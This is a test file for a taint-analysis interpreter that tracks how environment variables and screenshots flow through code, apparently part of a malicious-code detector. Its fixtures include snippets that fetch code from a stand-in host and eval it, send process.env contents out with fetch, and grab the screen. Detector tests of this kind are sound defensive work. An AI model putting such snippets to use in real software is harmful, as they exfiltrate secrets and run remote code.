import { describe, expect, it } from 'vitest';
import {
  interpretJavaScript,
  pythonValueOf,
  valueOf,
} from '../../../tests/taint/interpret-code.ts';
import { ENVIRONMENT, SCREEN, VARIABLE } from '../label.ts';

describe('callApi()', () => {
  it('passes the content of the arguments through an unknown function', () => {
    expect(valueOf('f(process.env)').labels).toBe(ENVIRONMENT);
    expect(valueOf('a.b({ c: [process.env] })').labels).toBe(ENVIRONMENT);
    expect(valueOf('process.env.toJSON').labels).not.toBe(0);
  });

  it('passes it in a bundle only through functions that are known to do so', () => {
    expect(valueOf('f(process.env)', '', true).labels).toBe(0);
    expect(valueOf('JSON.stringify(process.env)', '', true).labels).toBe(ENVIRONMENT);
    expect(valueOf('Object.entries(process.env)', '', true).labels).toBe(ENVIRONMENT);
    expect(valueOf('Object.freeze2(process.env)', '', true).labels).toBe(0);
    expect(valueOf('f(1).join2(process.env)', '', true).labels).toBe(0);
    expect(valueOf("[process.env].concat('a')", '', true).labels).toBe(ENVIRONMENT);
  });

  it('folds constant texts of functions without a description', () => {
    expect(valueOf("decodeURIComponent('%61')").texts).toEqual(['a']);
    expect(valueOf("require('path').join('a', 'b')").texts).toEqual(['a/b']);
  });

  it('calls callbacks with the content of the receiver and the result', () => {
    const text = `require('https').get('http://a.io', (response) => {
      response.on('data', (chunk) => eval(chunk));
    })`;
    const executed = interpretJavaScript(text).facts.filter((f) => f.action === 'execute');
    expect(executed.map((f) => f.operand.origins[0]?.what)).toEqual(['http.get']);
  });

  it('calls the callbacks of unknown functions of a bundle only when these are listeners', () => {
    const sentBy = (method: string, isLarge: boolean): number | undefined => {
      const text = `JSON.parse(process.env.X).${method}((x) => fetch('http://a.io', x))`;
      const [sent] = interpretJavaScript(text, isLarge).facts.filter((f) => f.action === 'send');
      return sent?.content.labels;
    };
    expect(sentBy('on', true)).toBe(VARIABLE);
    expect(sentBy('on2', true)).toBe(0);
    expect(sentBy('on2', false)).toBe(VARIABLE);
  });

  it('stores a screenshot into the buffer that it is saved to', () => {
    const before = `import io
from PIL import ImageGrab
b = io.BytesIO()
ImageGrab.grab().save(b)`;
    expect(pythonValueOf('f(b)', before).labels).toBe(SCREEN);
  });
});
